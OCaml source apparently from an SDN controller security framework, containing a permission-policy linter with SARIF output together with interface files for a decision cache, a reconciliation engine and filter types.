(* The guarded runner --------------------------------------------------------- *)

(* One (rule, fallback-location, check) triple per enabled rule.  An
   exhausted budget aborts the current rule only: the exception is
   converted into the rule's Info finding, and — since the shared
   scope stays exhausted — each remaining rule degrades the same way
   at its first budget tick.  Advisory results, never an escape. *)
let run_rules ~rules ~limits
    (checks : (rule * string * (unit -> finding list)) list) : finding list =
  let b = Budget.create ~limits () in
  let findings =
    Budget.with_scope b (fun () ->
        List.concat_map
          (fun (rule, fallback_loc, check) ->
            if not (List.mem rule rules) then []
            else
              match check () with
              | fs -> fs
              | exception Nf.Too_large ->
                [ unverified rule fallback_loc
                    "normal form too large under the lint budget; rule \
                     skipped" ]
              | exception Budget.Exhausted { reason; _ } ->
                [ unverified rule fallback_loc
                    ("lint budget exhausted (" ^ reason ^ "); rule skipped")
                ]
              | exception Stack_overflow ->
                [ unverified rule fallback_loc
                    "stack overflow during analysis; rule skipped" ]
              | exception Out_of_memory ->
                [ unverified rule fallback_loc
                    "out of memory during analysis; rule skipped" ]
              | exception exn ->
                [ unverified rule fallback_loc
                    ("internal error: " ^ Printexc.to_string exn) ])
          checks)
  in
  count_findings findings;
  findings

(* Per-permission iteration with a per-permission Too_large barrier, so
   one pathological filter degrades its own checks, not its siblings'. *)
let per_perm rule ~label (m : Perm.manifest)
    (f : string -> Perm.t -> finding list) : finding list =
  List.concat_map
    (fun (p : Perm.t) ->
      let loc = label ^ "PERM " ^ Token.to_string p.Perm.token in
      match f loc p with
      | fs -> fs
      | exception Nf.Too_large ->
        [ unverified rule loc
            "normal form too large under the lint budget; permission \
             skipped" ])
    m

(* Literal-level conflict predicates ----------------------------------------- *)

let complementary (a : Nf.literal) (b : Nf.literal) =
  a.Nf.positive <> b.Nf.positive && a.Nf.atom = b.Nf.atom

(* First offending pair in a conjunctive clause: complementary
   literals, or two positive singletons that are range-disjoint on the
   same dimension (Inclusion.singleton_disjoint — deliberately NOT
   semantic emptiness; the message spells the caveat out). *)
let conj_conflict (c : Nf.clause) : (Nf.literal * Nf.literal) option =
  let rec go = function
    | [] -> None
    | l :: rest -> (
      match
        List.find_opt
          (fun l' ->
            complementary l l'
            || (l.Nf.positive && l'.Nf.positive
               && Inclusion.singleton_disjoint l.Nf.atom l'.Nf.atom))
          rest
      with
      | Some l' -> Some (l, l')
      | None -> go rest)
  in
  go c

let disj_tautology (c : Nf.clause) =
  List.exists (fun l -> List.exists (complementary l) c) c

(* Rule 1: unsatisfiable filter ---------------------------------------------- *)

let unsatisfiable_perm loc (p : Perm.t) =
  let clauses = Nf.dnf p.Perm.filter in
  let many = List.length clauses > 1 in
  List.concat
    (List.mapi
       (fun i c ->
         Budget.step ();
         match conj_conflict c with
         | None -> []
         | Some (a, b) ->
           let loc =
             if many then Printf.sprintf "%s, clause %d" loc (i + 1) else loc
           in
           let lit_str (l : Nf.literal) =
             (if l.Nf.positive then "" else "NOT ") ^ singleton_str l.Nf.atom
           in
           [ finding Unsatisfiable_filter Error loc
               (Printf.sprintf
                  "conjunction requires both %s and %s, which cannot hold \
                   together on the same dimension; only calls lacking the \
                   dimension (vacuous pass) could ever satisfy this clause"
                  (lit_str a) (lit_str b))
               ~suggestion:
                 "remove one of the conflicting singletons or turn the AND \
                  into an OR" ])
       clauses)

(* Rule 2: vacuous filter ----------------------------------------------------- *)

let vacuous_perm loc (p : Perm.t) =
  if Filter.size p.Perm.filter <= 1 then []
  else
    let clauses = Nf.cnf p.Perm.filter in
    if clauses = [] || List.for_all disj_tautology clauses then
      [ finding Vacuous_filter Warn loc
          (Printf.sprintf
             "filter %s is always true after normalisation: the refinement \
              does not restrict the token at all"
             (filter_str p.Perm.filter))
          ~suggestion:
            "drop the LIMITING clause (an unrestricted grant is what it \
             already is) or tighten the filter" ]
    else
      let many = List.length clauses > 1 in
      List.concat
        (List.mapi
           (fun i c ->
             Budget.step ();
             if disj_tautology c then
               let loc =
                 if many then Printf.sprintf "%s, clause %d" loc (i + 1)
                 else loc
               in
               [ finding Vacuous_filter Warn loc
                   (Printf.sprintf
                      "clause (%s) contains complementary literals and is \
                       always true; it contributes nothing to the \
                       conjunction"
                      (clause_str c))
                   ~suggestion:"delete the tautological clause" ]
             else [])
           clauses)

(* Rule 3: shadowed clause ---------------------------------------------------- *)

(** Pairwise shadow analysis is quadratic in the DNF clause count;
    past this cap the rule reports itself unverified instead of
    stalling the pass. *)
let shadow_max_clauses = 128

let shadowed_perm loc (p : Perm.t) =
  let clauses = Nf.dnf p.Perm.filter in
  let n = List.length clauses in
  if n < 2 then []
  else if n > shadow_max_clauses then
    [ unverified Shadowed_clause loc
        (Printf.sprintf
           "%d DNF clauses exceed the shadow-analysis cap (%d); rule \
            skipped for this permission"
           n shadow_max_clauses) ]
  else
    let arr = Array.of_list clauses in
    let out = ref [] in
    for j = 1 to n - 1 do
      Budget.step ();
      let rec first_covering i =
        if i >= j then None
        else if Inclusion.conj_clause_includes arr.(i) arr.(j) then Some i
        else first_covering (i + 1)
      in
      match first_covering 0 with
      | None -> ()
      | Some i ->
        out :=
          finding Shadowed_clause Warn
            (Printf.sprintf "%s, clause %d" loc (j + 1))
            (Printf.sprintf
               "clause (%s) is already covered by clause %d (%s); it can \
                never change the decision"
               (clause_str arr.(j))
               (i + 1)
               (clause_str arr.(i)))
            ~suggestion:"delete the shadowed clause"
          :: !out
    done;
    List.rev !out

(* Rule 4: redundant token refinement ---------------------------------------- *)

(* Which singleton dimensions can calls under a token actually carry?
   Derived from Attrs.of_call / Engine.token_of_call: a singleton on a
   dimension outside this set passes vacuously on every call the token
   admits (§IV-B), so a filter built only from such singletons is an
   unrestricted grant in disguise.  Macros count as relevant — their
   binding is unknown until the policy expands them. *)
let relevant_to_token (token : Token.t) (s : Filter.singleton) =
  let is_flow_token =
    match token with
    | Token.Insert_flow | Token.Delete_flow | Token.Read_flow_table -> true
    | _ -> false
  in
  let is_event_token =
    match token with
    | Token.Pkt_in_event | Token.Flow_event | Token.Topology_event
    | Token.Error_event ->
      true
    | _ -> false
  in
  match s with
  | Filter.Macro _ -> true
  | Filter.Pred { field; _ } | Filter.Wildcard { field; _ } -> (
    match token with
    | Token.Insert_flow | Token.Delete_flow | Token.Read_flow_table
    | Token.Send_pkt_out ->
      true
    | Token.Host_network ->
      field = Filter.F_ip_dst || field = Filter.F_tcp_dst
    | _ -> false)
  | Filter.Action_f _ ->
    (match token with
    | Token.Insert_flow | Token.Delete_flow -> true
    | _ -> false)
  | Filter.Owner _ -> is_flow_token
  | Filter.Max_priority _ | Filter.Min_priority _ ->
    (match token with
    | Token.Insert_flow | Token.Delete_flow -> true
    | _ -> false)
  | Filter.Max_rule_count _ -> token = Token.Insert_flow
  | Filter.Pkt_out _ -> token = Token.Send_pkt_out
  | Filter.Phys_topo _ ->
    is_flow_token || is_event_token
    || (match token with
       | Token.Visible_topology | Token.Modify_topology
       | Token.Read_statistics | Token.Send_pkt_out ->
         true
       | _ -> false)
  | Filter.Virt_topo _ ->
    is_flow_token
    || (match token with
       | Token.Visible_topology | Token.Send_pkt_out -> true
       | _ -> false)
  | Filter.Callback _ -> is_event_token
  | Filter.Stats_level _ -> token = Token.Read_statistics

let redundant_perm loc (p : Perm.t) =
  Budget.step ();
  let atoms = Filter.fold_atoms (fun acc s -> s :: acc) [] p.Perm.filter in
  if atoms = [] then []
  else if List.exists (relevant_to_token p.Perm.token) atoms then []
  else
    let dims =
      List.sort_uniq compare (List.map singleton_str atoms)
    in
    [ finding Redundant_refinement Warn loc
        (Printf.sprintf
           "filter only inspects %s — dimensions %s calls never carry; \
            under the vacuous-pass convention every call passes, so the \
            grant is effectively unrestricted while looking restricted"
           (ellipsize (String.concat ", " dims))
           (Token.to_string p.Perm.token))
        ~suggestion:
          (Printf.sprintf
             "drop the LIMITING clause or refine on a dimension %s calls \
              carry"
             (Token.to_string p.Perm.token)) ]

(* Rule 5: over-privilege audit ---------------------------------------------- *)

(* The lattice claims below are upgraded to confirmed witness calls
   where [Diff] can synthesize one: a witness is a concrete call the
   grant admits that the least-privilege envelope does not — evidence
   an auditor can replay, not just a provable-inclusion assertion.
   [Diff.diff] never raises and fails closed to no-witnesses, so the
   base finding still fires when synthesis degrades. *)
let excess_witnesses token ~(wide : Filter.expr) ~(narrow : Filter.expr) =
  match
    Diff.diff ~max_witnesses:2
      [ { Perm.token; filter = wide } ]
      [ { Perm.token; filter = narrow } ]
  with
  | Diff.Nonempty ws -> Diff.dedup ws
  | Diff.Empty | Diff.Unknown _ -> []

let over_privilege_findings ~label trace (m : Perm.manifest) =
  Budget.step ();
  let inferred = Infer.of_trace trace in
  List.concat_map
    (fun (p : Perm.t) ->
      let loc = label ^ "PERM " ^ Token.to_string p.Perm.token in
      if Filter.has_macros p.Perm.filter then []
      else
        match Perm.find inferred p.Perm.token with
        | None ->
          let witnesses =
            excess_witnesses p.Perm.token ~wide:p.Perm.filter
              ~narrow:Filter.False
          in
          [ finding Over_privilege Warn loc ~witnesses
              (Printf.sprintf
                 "token %s is granted but never used in the supplied \
                  behaviour trace (%d calls)%s"
                 (Token.to_string p.Perm.token)
                 (List.length trace)
                 (match witnesses with
                 | w :: _ ->
                   Printf.sprintf "; the grant admits e.g. %s"
                     (ellipsize (Fmt.to_to_string Api.pp_call w.Diff.call))
                 | [] -> ""))
              ~suggestion:
                (Printf.sprintf "drop PERM %s from the manifest"
                   (Token.to_string p.Perm.token)) ]
        | Some q ->
          if
            Inclusion.filter_includes p.Perm.filter q.Perm.filter
            && not (Inclusion.filter_includes q.Perm.filter p.Perm.filter)
          then
            let witnesses =
              excess_witnesses p.Perm.token ~wide:p.Perm.filter
                ~narrow:q.Perm.filter
            in
            [ finding Over_privilege Warn loc ~witnesses
                (Printf.sprintf
                   "filter strictly exceeds the least-privilege envelope \
                    observed in the trace; the observed behaviour only \
                    needs: %s%s"
                   (filter_str q.Perm.filter)
                   (match witnesses with
                   | w :: _ ->
                     Printf.sprintf
                       " (confirmed: %s is admitted but outside the envelope)"
                       (ellipsize (Fmt.to_to_string Api.pp_call w.Diff.call))
                   | [] -> ""))
                ~suggestion:
                  (Printf.sprintf "narrow to LIMITING %s"
                     (filter_str q.Perm.filter)) ]
          else [])
    m

(* Policy helpers ------------------------------------------------------------- *)

let stmt_head (stmt : Policy.stmt) =
  match stmt with
  | Policy.Let (v, Policy.B_perm _) -> "LET " ^ v ^ " = <perm>"
  | Policy.Let (v, Policy.B_filter _) -> "LET " ^ v ^ " = { <filter> }"
  | Policy.Let (v, Policy.B_app a) -> Printf.sprintf "LET %s = APP %s" v a
  | Policy.Assert_exclusive _ -> "ASSERT EITHER"
  | Policy.Assert _ -> "ASSERT"

let stmt_loc i stmt = Printf.sprintf "statement %d (%s)" (i + 1) (stmt_head stmt)

(* Every filter expression embedded in a perm_expr (P_block filters). *)
let rec perm_expr_filters = function
  | Policy.P_var _ -> []
  | Policy.P_block m -> List.map (fun (p : Perm.t) -> p.Perm.filter) m
  | Policy.P_meet (a, b) | Policy.P_join (a, b) ->
    perm_expr_filters a @ perm_expr_filters b

let rec assert_expr_perm_exprs = function
  | Policy.A_cmp (a, _, b) -> [ a; b ]
  | Policy.A_and (a, b) | Policy.A_or (a, b) ->
    assert_expr_perm_exprs a @ assert_expr_perm_exprs b
  | Policy.A_not a -> assert_expr_perm_exprs a

let stmt_perm_exprs = function
  | Policy.Let (_, Policy.B_perm pe) -> [ pe ]
  | Policy.Let (_, (Policy.B_filter _ | Policy.B_app _)) -> []
  | Policy.Assert_exclusive (a, b) -> [ a; b ]
  | Policy.Assert ae -> assert_expr_perm_exprs ae

let stmt_filters stmt =
  let embedded = List.concat_map perm_expr_filters (stmt_perm_exprs stmt) in
  match stmt with
  | Policy.Let (_, Policy.B_filter f) -> f :: embedded
  | _ -> embedded

(* Rule 6: dead LET binding --------------------------------------------------- *)

let dead_bindings ?manifest_macros (policy : Policy.t) =
  let indexed = List.mapi (fun i s -> (i, s)) policy in
  (* Per-statement reference sets: names used as perm-expr variables,
     and names used as stub macros inside embedded filters. *)
  let refs =
    List.map
      (fun (i, stmt) ->
        Budget.step ();
        let vars = List.concat_map Policy.perm_expr_vars (stmt_perm_exprs stmt) in
        let macros = List.concat_map Filter.macros (stmt_filters stmt) in
        (i, vars @ macros))
      indexed
  in
  let referenced_elsewhere i name =
    List.exists (fun (j, names) -> j <> i && List.mem name names) refs
  in
  List.concat_map
    (fun (i, stmt) ->
      match stmt with
      | Policy.Let (v, rhs) ->
        if referenced_elsewhere i v then []
        else begin
          match rhs with
          | Policy.B_filter _ -> (
            match manifest_macros with
            | Some ms when List.mem v ms -> []
            | Some _ ->
              [ finding Dead_binding Warn (stmt_loc i stmt)
                  (Printf.sprintf
                     "stub macro %s is bound but referenced by no policy \
                      statement and no app manifest"
                     v)
                  ~suggestion:"delete the binding or fix the stub name" ]
            | None ->
              [ finding Dead_binding Info (stmt_loc i stmt)
                  (Printf.sprintf
                     "stub macro %s is referenced by no policy statement \
                      (app manifests were not inspected — pass them to \
                      confirm)"
                     v)
                  ~suggestion:"delete the binding if no manifest uses it" ])
          | Policy.B_perm _ | Policy.B_app _ ->
            [ finding Dead_binding Warn (stmt_loc i stmt)
                (Printf.sprintf
                   "binding %s is never referenced by any later statement" v)
                ~suggestion:"delete the unused LET" ]
        end
      | _ -> [])
    indexed

(* Rule 7: self-MEET/JOIN no-ops --------------------------------------------- *)

let rec perm_expr_equal a b =
  match (a, b) with
  | Policy.P_var x, Policy.P_var y -> x = y
  | Policy.P_block m, Policy.P_block n -> Perm.equal m n
  | Policy.P_meet (a1, a2), Policy.P_meet (b1, b2)
  | Policy.P_join (a1, a2), Policy.P_join (b1, b2) ->
    perm_expr_equal a1 b1 && perm_expr_equal a2 b2
  | _ -> false

let rec self_ops loc pe =
  Budget.step ();
  match pe with
  | Policy.P_var _ | Policy.P_block _ -> []
  | Policy.P_meet (a, b) | Policy.P_join (a, b) ->
    let op = match pe with Policy.P_meet _ -> "MEET" | _ -> "JOIN" in
    (if perm_expr_equal a b then
       [ finding Self_meet_join Warn loc
           (Printf.sprintf
              "%s of an expression with itself is a no-op (%s)"
              op
              (ellipsize (Fmt.to_to_string Policy.pp_perm_expr pe)))
           ~suggestion:"replace the operation with one of its operands" ]
     else [])
    @ self_ops loc a @ self_ops loc b

let self_meet_joins (policy : Policy.t) =
  List.concat
    (List.mapi
       (fun i stmt ->
         List.concat_map (self_ops (stmt_loc i stmt)) (stmt_perm_exprs stmt))
       policy)

(* Rule 8: overlapping ASSERT EITHER sides ----------------------------------- *)

(* Resolve a perm_expr to a concrete manifest using the policy's own
   LET bindings.  App references and filter macros are opaque here
   (their manifests live outside the policy), so expressions touching
   them stay unresolved and the rule stays silent — sound for a lint:
   no claim is made that cannot be shown from the policy text alone. *)
let rec resolve_perm_expr env seen pe : Perm.manifest option =
  Budget.step ();
  match pe with
  | Policy.P_block m -> Some m
  | Policy.P_var v ->
    if List.mem v seen then None
    else (
      match List.assoc_opt v env with
      | Some (Policy.B_perm pe') -> resolve_perm_expr env (v :: seen) pe'
      | _ -> None)
  | Policy.P_meet (a, b) -> (
    match (resolve_perm_expr env seen a, resolve_perm_expr env seen b) with
    | Some ma, Some mb -> Some (Perm_ops.meet ma mb)
    | _ -> None)
  | Policy.P_join (a, b) -> (
    match (resolve_perm_expr env seen a, resolve_perm_expr env seen b) with
    | Some ma, Some mb -> Some (Perm_ops.join ma mb)
    | _ -> None)

let overlap_token (a : Perm.manifest) (b : Perm.manifest) : Token.t option =
  List.find_map
    (fun (pa : Perm.t) ->
      match Perm.find b pa.Perm.token with
      | Some pb
        when Inclusion.filter_satisfiable
               (Filter.conj pa.Perm.filter pb.Perm.filter) ->
        Some pa.Perm.token
      | _ -> None)
    a

let overlapping_exclusives (policy : Policy.t) =
  let env =
    List.filter_map
      (function Policy.Let (v, rhs) -> Some (v, rhs) | _ -> None)
      policy
  in
  List.concat
    (List.mapi
       (fun i stmt ->
         match stmt with
         | Policy.Assert_exclusive (a, b) -> (
           match
             (resolve_perm_expr env [] a, resolve_perm_expr env [] b)
           with
           | Some ma, Some mb -> (
             match overlap_token ma mb with
             | Some t ->
               (* Upgrade the satisfiability claim to confirmed calls
                  where the witness engine finds one; [Diff.overlap]
                  never raises, and a degraded search just leaves the
                  claim witness-less. *)
               let witnesses =
                 match Diff.overlap ~max_witnesses:2 ma mb with
                 | Diff.Nonempty ws -> Diff.dedup ws
                 | Diff.Empty | Diff.Unknown _ -> []
               in
               [ finding Overlapping_exclusive Warn (stmt_loc i stmt)
                   ~witnesses
                   (Printf.sprintf
                      "the two EITHER sides share allowed behaviour (e.g. \
                       under token %s); an app possessing both would have \
                       the overlap silently truncated from the second side \
                       at reconciliation%s"
                      (Token.to_string t)
                      (match witnesses with
                      | w :: _ ->
                        Printf.sprintf " (confirmed: %s is admitted by both)"
                          (ellipsize
                             (Fmt.to_to_string Api.pp_call w.Diff.call))
                      | [] -> ""))
                   ~suggestion:
                     "tighten one side so the sets are disjoint, or drop \
                      the exclusivity constraint" ]
             | None -> [])
           | _ -> [])
         | _ -> [])
       policy)

(* Entry points ---------------------------------------------------------------- *)

let lint_manifest ?(rules = all_rules) ?(limits = Budget.default_limits)
    ?(label = "") ?trace (m : Perm.manifest) : finding list =
  let label = if label = "" then "" else label ^ ": " in
  let fallback = label ^ "manifest" in
  let checks =
    [ ( Unsatisfiable_filter, fallback,
        fun () -> per_perm Unsatisfiable_filter ~label m unsatisfiable_perm );
      ( Vacuous_filter, fallback,
        fun () -> per_perm Vacuous_filter ~label m vacuous_perm );
      ( Shadowed_clause, fallback,
        fun () -> per_perm Shadowed_clause ~label m shadowed_perm );
      ( Redundant_refinement, fallback,
        fun () -> per_perm Redundant_refinement ~label m redundant_perm ) ]
    @
    match trace with
    | None -> []
    | Some trace ->
      [ ( Over_privilege, fallback,
          fun () -> over_privilege_findings ~label trace m ) ]
  in
  run_rules ~rules ~limits checks

let lint_policy ?(rules = all_rules) ?(limits = Budget.default_limits)
    ?manifest_macros (policy : Policy.t) : finding list =
  let checks =
    [ ( Dead_binding, "policy",
        fun () -> dead_bindings ?manifest_macros policy );
      (Self_meet_join, "policy", fun () -> self_meet_joins policy);
      ( Overlapping_exclusive, "policy",
        fun () -> overlapping_exclusives policy ) ]
  in
  run_rules ~rules ~limits checks

(* Rendering ------------------------------------------------------------------- *)

let pp_finding ppf f =
  Fmt.pf ppf "%s[%s] %s: %s"
    (severity_label f.severity)
    (rule_id f.rule) f.location f.message;
  List.iter
    (fun (w : Diff.witness) ->
      Fmt.pf ppf "@,    witness: %a — %s" Api.pp_call w.Diff.call
        w.Diff.why_left)
    f.witnesses;
  match f.suggestion with
  | Some s -> Fmt.pf ppf "@,    suggestion: %s" s
  | None -> ()

let pp_report ppf fs =
  match fs with
  | [] -> Fmt.pf ppf "lint: clean — no findings@."
  | _ ->
    Fmt.pf ppf "@[<v>%a@]@." (Fmt.list pp_finding) fs;
    Fmt.pf ppf "lint: %d error(s), %d warning(s), %d info@." (count Error fs)
      (count Warn fs) (count Info fs)

(* SARIF-shaped JSON.  One run, driver "shield-lint", the full rule
   catalogue as rule metadata, one result per finding.  Built on the
   dependency-free Telemetry JSON writer so round-trips are testable
   with the same parser the observability gate uses. *)
let sarif_level = function Error -> "error" | Warn -> "warning" | Info -> "note"

let to_sarif ?(uri = "<memory>") fs =
  let rule_meta r =
    Json.Obj
      [ ("id", Json.Str (rule_id r));
        ( "shortDescription",
          Json.Obj [ ("text", Json.Str (rule_doc r)) ] ) ]
  in
  let result f =
    let witness_json (w : Diff.witness) =
      Json.Obj
        [ ("token", Json.Str (Token.to_string w.Diff.token));
          ("call", Json.Str (Fmt.to_to_string Api.pp_call w.Diff.call));
          ("admitted", Json.Str w.Diff.why_left);
          ("counterpart", Json.Str w.Diff.why_right) ]
    in
    let property_fields =
      (match f.suggestion with
      | None -> []
      | Some s -> [ ("suggestion", Json.Str s) ])
      @
      match f.witnesses with
      | [] -> []
      | ws -> [ ("witnesses", Json.Arr (List.map witness_json ws)) ]
    in
    let properties =
      match property_fields with
      | [] -> []
      | fields -> [ ("properties", Json.Obj fields) ]
    in
    Json.Obj
      ([ ("ruleId", Json.Str (rule_id f.rule));
         ("level", Json.Str (sarif_level f.severity));
         ("message", Json.Obj [ ("text", Json.Str f.message) ]);
         ( "locations",
           Json.Arr
             [ Json.Obj
                 [ ( "physicalLocation",
                     Json.Obj
                       [ ( "artifactLocation",
                           Json.Obj [ ("uri", Json.Str uri) ] ) ] );
                   ( "logicalLocations",
                     Json.Arr
                       [ Json.Obj
                           [ ("fullyQualifiedName", Json.Str f.location) ]
                       ] ) ] ] ) ]
      @ properties)
  in
  Json.to_string
    (Json.Obj
       [ ("version", Json.Str "2.1.0");
         ( "runs",
           Json.Arr
             [ Json.Obj
                 [ ( "tool",
                     Json.Obj
                       [ ( "driver",
                           Json.Obj
                             [ ("name", Json.Str "shield-lint");
                               ( "informationUri",
                                 Json.Str "docs/LINTING.md" );
                               ( "rules",
                                 Json.Arr (List.map rule_meta all_rules) )
                             ] ) ] );
                   ("results", Json.Arr (List.map result fs)) ] ] ) ])
