(** Memoized permission decisions for the enforcement hot path.

    Per-call permission checking is the critical path of enforcement
    (the paper's Figure 5); this cache fronts both the interpreting
    {!Engine} and the closure-compiled {!Compiled} checker.  Decisions
    are keyed on a canonicalized call signature — the token plus the
    projection of the call's attributes onto the dimensions the
    manifest's filter for that token actually inspects — so a hit
    returns exactly what re-evaluation would.

    Cacheability is classified statically: stateless filters (flow
    predicates, wildcards, action classes, priorities, packet-out
    provenance, topology, statistics levels) cache unconditionally;
    filters reading the ownership store (OWN_FLOWS, MAX_RULE_COUNT)
    are generation-gated on {!Ownership.generation} and invalidate on
    every store mutation.

    Internally the signature-keyed table is fronted by a small
    lock-free direct-mapped array of per-slot atomics keyed on the
    exact call value — call equality refines signature equality, so
    the fast path can never answer differently from the canonical
    table, and atomic slots make it sound under domain parallelism
    ([Isolated_domains]).  The cacheability model and its safety
    argument are specified in docs/CACHING.md. *)

(** Static cacheability of a filter expression. *)
type cacheability =
  | Stateless  (** Decisions depend only on call attributes. *)
  | Stateful
      (** Decisions also read the ownership store; cache entries are
          generation-gated. *)

val classify : Filter.expr -> cacheability
(** [Stateful] iff the expression contains an [OWN_FLOWS] or
    [MAX_RULE_COUNT] atom anywhere (under any polarity — negation does
    not remove the state dependence). *)

(** The attribute dimensions a filter inspects: the shape of its call
    signatures. *)
type footprint = {
  fields : Filter.field list;  (** Sorted, deduplicated. *)
  actions : bool;
  priority : bool;
  stats_level : bool;
  from_pkt_in : bool;
  flow_state : bool;
      (** Signature carries match/command/cookie; entries are
          generation-gated. *)
}

val footprint : Filter.expr -> footprint

type key
(** A canonicalized call signature: token, call kind, dpid, plus the
    projections of the inspected dimensions.  Structural equality on
    keys is exactly signature equality. *)

val key_of : token:Token.t -> footprint -> Attrs.t -> key
(** Project a call's attributes onto a filter's footprint.  Exposed for
    the canonicalization unit tests. *)

type t

val default_max_entries : int
(** Default table bound (16384 entries) used by {!create} and by the
    engines' [?cache_size] arguments. *)

val create :
  ?name:string ->
  ?max_entries:int ->
  ?generation:(unit -> int) ->
  Perm.manifest ->
  t
(** Build a cache for [manifest].  [generation] must be the mutation
    counter of the state the manifest's stateful filters read
    (normally [fun () -> Ownership.generation store]); the default
    constant is sound only under {!Filter_eval.pure_env}.  [name]
    registers the counters in the {!Shield_controller.Metrics} cache
    registry.  [max_entries] (default 16384) bounds the signature
    table; a full table is flushed on insert.  The call-keyed fast
    path is direct-mapped over [min max_entries 4096] slots (rounded
    up to a power of two), where colliding calls simply displace each
    other. *)

(** How a lookup was served, for traces and decision explanations. *)
type outcome =
  | L1_hit  (** Call-keyed fast path. *)
  | L2_hit  (** Canonical-signature table. *)
  | Miss  (** Evaluated, then cached. *)
  | Bypass  (** Token absent from the manifest: nothing to cache. *)

val to_cache_outcome : outcome -> Shield_controller.Api.cache_outcome

val check :
  t ->
  token:Token.t ->
  call:Shield_controller.Api.call ->
  eval:(Attrs.t -> bool) ->
  bool
(** The memoized decision for [call] under [token]; [eval] computes it
    from the call's attributes on a miss and MUST be the pure filter
    evaluation (no side effects — the engine records ownership state
    outside the cached step).  Tokens absent from the manifest bypass
    the cache.  The fast-path hit is allocation-free; use
    {!check_outcome} when provenance is wanted. *)

val check_outcome :
  t ->
  token:Token.t ->
  call:Shield_controller.Api.call ->
  eval:(Attrs.t -> bool) ->
  bool * outcome
(** {!check} plus how the lookup was served.  Decides identically to
    {!check} and maintains the same counters. *)

val stats : t -> Shield_controller.Metrics.cache_stats
(** Hit/miss/invalidation/eviction/bypass counters so far.  [hits]
    counts both fast-path and signature-table hits; [evictions] counts
    signature-table flushes only (fast-path displacement is not an
    eviction — the signature entry survives). *)

val size : t -> int
(** Live signature-table entries. *)

val clear : t -> unit
(** Drop every entry, in both levels (counters are kept). *)
