(** The reconciliation engine (§V-B2): verifies the administrator's
    security policy against the apps' requested manifests, expands
    developer stubs, repairs violations — boundary violations by
    intersection with the boundary, mutual exclusions by truncating the
    second exclusive set (the paper's Scenario-1 behaviour) — and
    reports everything for the administrator's review. *)

type action =
  | Truncated_to_boundary
  | Truncated_exclusive
  | Alert_only  (** No automatic repair applicable. *)
  | Policy_error
      (** The statement itself could not be evaluated (unbound
          variable, filter macro used as a permission set, cyclic
          binding).  It is reported and skipped; the remaining
          statements are still verified and repaired — one bad
          statement cannot abort reconciliation. *)

type violation = {
  stmt : Policy.stmt;
  app : string option;
  message : string;
  action : action;
  before : Perm.manifest;
  after : Perm.manifest;
}

type report = {
  manifests : (string * Perm.manifest) list;  (** Reconciled results. *)
  violations : violation list;
  unresolved_macros : (string * string list) list;  (** (app, stubs). *)
}

val ok : report -> bool
(** No violations and no unresolved stubs. *)

val run : apps:(string * Perm.manifest) list -> Policy.t -> report
(** Reconcile the apps' manifests against the policy.  Constraints are
    processed in order; app references in boundary assertions resolve
    to the current (possibly already repaired) manifests. *)

val run_strings :
  app_name:string ->
  manifest_src:string ->
  policy_src:string ->
  (Perm.manifest * report, string) result
(** Parse-and-reconcile convenience for a single app. *)

(** Read-only policy evaluation over a fixed set of manifests: the
    same LET-binding resolution, stub expansion and cycle detection the
    repair passes use, exposed so {!Verify} can resolve the permission
    expressions of [ASSERT] obligations against already-reconciled
    manifests without re-running (or re-triggering) any repair. *)
module Env : sig
  type t

  val create : apps:(string * Perm.manifest) list -> Policy.t -> t
  (** Collect the policy's bindings over [apps].  The manifests are
      taken as given — normally the [manifests] of a {!report}. *)

  val apps : t -> (string * Perm.manifest) list

  val manifest_of :
    t -> Policy.perm_expr -> (Perm.manifest * string option, string) result
  (** Evaluate a permission expression: the denoted manifest plus the
      app name when the expression directly references one app (the
      repair-target convention of {!run}).  [Error] carries the
      evaluation failure (unbound variable, cyclic binding, filter
      macro used as a permission set) instead of raising.  Ticks the
      ambient {!Budget}. *)
end

val pp_action : Format.formatter -> action -> unit
val pp_violation : Format.formatter -> violation -> unit
val pp_report : Format.formatter -> report -> unit
