(* Permission filters (§IV-B): singleton filters over one API-call
   attribute, composed with AND / OR / NOT into filter expressions.

   Each singleton inspects exactly one attribute *dimension*; filters on
   different dimensions are independent, which is the property
   Algorithm 1 (inclusion checking) exploits.  [Macro] is a stub left
   by the app developer for the administrator to bind during
   reconciliation (§V-A, permission customization). *)

open Shield_openflow.Types

type field =
  | F_ip_src
  | F_ip_dst
  | F_tcp_src
  | F_tcp_dst
  | F_eth_src
  | F_eth_dst
  | F_in_port
  | F_eth_type
  | F_ip_proto
  | F_vlan

let field_to_string = function
  | F_ip_src -> "IP_SRC"
  | F_ip_dst -> "IP_DST"
  | F_tcp_src -> "TCP_SRC"
  | F_tcp_dst -> "TCP_DST"
  | F_eth_src -> "ETH_SRC"
  | F_eth_dst -> "ETH_DST"
  | F_in_port -> "IN_PORT"
  | F_eth_type -> "ETH_TYPE"
  | F_ip_proto -> "IP_PROTO"
  | F_vlan -> "VLAN"

let field_of_string s =
  match String.uppercase_ascii s with
  | "IP_SRC" -> Some F_ip_src
  | "IP_DST" -> Some F_ip_dst
  | "TCP_SRC" | "TP_SRC" -> Some F_tcp_src
  | "TCP_DST" | "TP_DST" -> Some F_tcp_dst
  | "ETH_SRC" | "DL_SRC" -> Some F_eth_src
  | "ETH_DST" | "DL_DST" -> Some F_eth_dst
  | "IN_PORT" -> Some F_in_port
  | "ETH_TYPE" | "DL_TYPE" -> Some F_eth_type
  | "IP_PROTO" | "NW_PROTO" -> Some F_ip_proto
  | "VLAN" | "DL_VLAN" -> Some F_vlan
  | _ -> None

let is_ip_field = function F_ip_src | F_ip_dst -> true | _ -> false

(** Field values: IPv4 fields carry 32-bit values (and masks); all other
    fields are plain integers. *)
type value = V_ip of ipv4 | V_int of int

let pp_value ppf = function
  | V_ip ip -> pp_ipv4 ppf ip
  | V_int i -> Fmt.int ppf i

type action_kind =
  | A_drop
  | A_forward
  | A_modify of field
      (** Permission to rewrite [field] (and forward the result). *)

type ownership = Own_flows | All_flows
type pkt_out_kind = From_pkt_in | Arbitrary

module Int_set = Set.Make (Int)

type phys_topo = {
  switches : Int_set.t;
  links : Int_set.t;  (** Link indexes; empty = all links among switches. *)
}

type virt_topo =
  | Single_big_switch
      (** All visible switches presented as one big switch, external
          links kept (the paper's VIRTUAL SINGLE_BIG_SWITCH LINK
          EXTERNAL_LINKS form). *)
  | Switch_groups of (Int_set.t * int) list
      (** Explicit grouping: physical-switch set AS virtual dpid. *)

type callback_kind = Event_interception | Modify_event_order

type singleton =
  | Pred of { field : field; value : value; mask : ipv4 option }
      (** Predicate filter: the call's [field] must fall within (be
          narrower than) the given value/range. *)
  | Wildcard of { field : field; mask : ipv4 }
